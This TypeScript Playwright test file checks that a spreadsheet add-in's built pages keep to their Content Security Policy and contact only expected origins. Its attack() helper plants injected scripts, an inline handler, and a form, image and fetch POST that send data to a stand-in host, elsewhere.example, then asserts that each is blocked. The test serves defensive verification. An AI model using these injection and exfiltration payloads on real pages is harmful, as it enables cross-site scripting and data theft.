import { readdirSync } from "node:fs";
import type { FrameLocator, Page } from "playwright-core";
import type {} from "../../src/demo/page";
import { bundleFakeHost } from "./bundleFakeHost";
import { describeInBrowser, takeBreaches } from "./launchBrowser";
import { servedDist } from "./served";

/** Every page of dist/ by its address. What they do against their policy fails any test: see launchBrowser. */
const PAGES = readdirSync("dist", { recursive: true, encoding: "utf8" })
  .map((name) => name.replaceAll("\\", "/"))
  .filter((name) => name.endsWith(".html"))
  .sort();

describeInBrowser("the policy of the pages", () => {
  const served = servedDist();

  /** A page of dist/ and the origins that it asked. */
  async function open(name: string) {
    const page = await served.newPage({ reducedMotion: "reduce" });
    page.setDefaultTimeout(15_000);
    const asked = new Set<string>();
    page.on("request", (request) => {
      const { origin } = new URL(request.url());
      if (origin !== "null") asked.add(origin);
    });
    const host = await bundleFakeHost();
    await page.route(/^https:/, (route) => route.fulfill({ contentType: "text/javascript", body: host }));
    await page.goto(`${served.address}/${name}`);
    return { page, asked };
  }

  it("is kept by the pane in every room, which asks nobody but its own server and Office.js", async () => {
    const { page, asked } = await open("taskpane.html");
    await page.getByRole("button", { name: "Insert starter sheets" }).click();
    await page.locator("footer [role=status]").getByText("Wrote the sheets").waitFor();
    expect(await walk(page)).toBeGreaterThanOrEqual(9);
    expect([...asked].sort()).toEqual([served.address, "https://appsforoffice.microsoft.com"]);
  });

  it("is kept by the browser workbook and every room beside it, which asks nobody but its own server", async () => {
    const { page, asked } = await open("workbook/index.html");
    await page.evaluate(() => window.alvhWorkbook.ready);
    expect(await walk(page.frameLocator("#pane"))).toBeGreaterThanOrEqual(9);
    expect([...asked]).toEqual([served.address]);
  });

  /** Opens room after room; the number of rooms. */
  async function walk(pane: Page | FrameLocator): Promise<number> {
    await pane.getByRole("tab").first().waitFor();
    const tabs = await pane.getByRole("tab").all();
    for (const tab of tabs) {
      const name = await tab.innerText();
      await tab.click();
      const room = pane.getByRole("tabpanel", { name, exact: true });
      await room.getByText("Loading…").waitFor({ state: "hidden" });
      await room.getByRole("heading").first().waitFor();
    }
    return tabs.length;
  }

  it.each(PAGES)("refuses what an attacker would have %s do", async (name) => {
    const { page } = await open(name);
    if (name === "workbook/index.html") await page.evaluate(() => window.alvhWorkbook.ready);
    const refused = await page.evaluate(attack);
    expect(refused).toEqual([
      ...["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src"],
      ...["script-src", "script-src-attr", "script-src-elem", "worker-src"],
    ]);
    // The request is noted before it is refused.
    const breaches = takeBreaches().filter(
      (breach) => !breach.startsWith("asked for https://elsewhere.example/"),
    );
    for (const breach of breaches) expect(breach).toMatch(/^[\w-]+ refuses /);
  });
});

/** In the page: each of the ways in which planted markup or text would run or send something. Which directives refused. */
function attack(): Promise<string[]> {
  const refused = new Set<string>();
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
    refused.add(effectiveDirective),
  );
  const add = (name: string, attributes: Record<string, string>, text = "") => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const elsewhere = "https://elsewhere.example/";
  add("script", { src: `${elsewhere}a.js` });
  add("script", {}, "window.planted = true");
  add("button", { onclick: "window.planted = true" }).click();
  add("img", { src: `${elsewhere}?figures=1` });
  add("iframe", { src: elsewhere });
  add("object", { data: elsewhere });
  add("base", { href: elsewhere });
  const form = add("form", { action: elsewhere, method: "post" }) as HTMLFormElement;
  form.submit();
  fetch(elsewhere, { method: "POST", body: "figures" }).catch(() => undefined);
  try {
    new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
  } catch {
    // Some browsers throw where others fire an event.
  }
  return new Promise((done) => {
    // In a task of its own: what the debugger itself evaluates, the policy lets pass.
    setTimeout(() => {
      try {
        new Function("window.planted = true")();
      } catch {
        // Refused.
      }
      setTimeout(() => done([...refused].sort()), 300);
    }, 300);
  });
}
